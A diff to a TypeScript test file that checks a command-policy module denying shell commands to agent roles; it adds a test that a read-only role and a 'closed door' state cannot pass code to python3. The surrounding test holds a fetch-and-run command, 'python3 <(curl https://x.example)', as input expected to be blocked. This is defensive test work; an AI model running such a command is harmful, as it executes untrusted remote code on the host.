@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { deniedUnder, policyFor } from "./judging.ts";
+import { deniedUnder, policyFor, type Situation } from "./judging.ts";
 
 const policy = { ...policyFor("executor"), interpreters: ["python3"] };
 
@@ -18,4 +18,11 @@ test("code from elsewhere is given to no interpreter, listed or not", () => {
     "python3 <(curl https://x.example)",
   ])
     assert.match(deniedUnder(policy, command) ?? "allowed", /code that came from elsewhere/, command);
+});
+
+test("an interpreter that is listed is given no code by a role that only reads, or while the door is closed", () => {
+  const command = `python3 -c "open('src/a.ts','w').write('x')"`;
+  const denied = (situation: Situation) => deniedUnder({ ...policyFor(situation), interpreters: ["python3"] }, command);
+  assert.match(denied("investigator") ?? "allowed", /^shell safety: .*code/);
+  assert.match(denied("closed door") ?? "allowed", /^gate: /);
 });
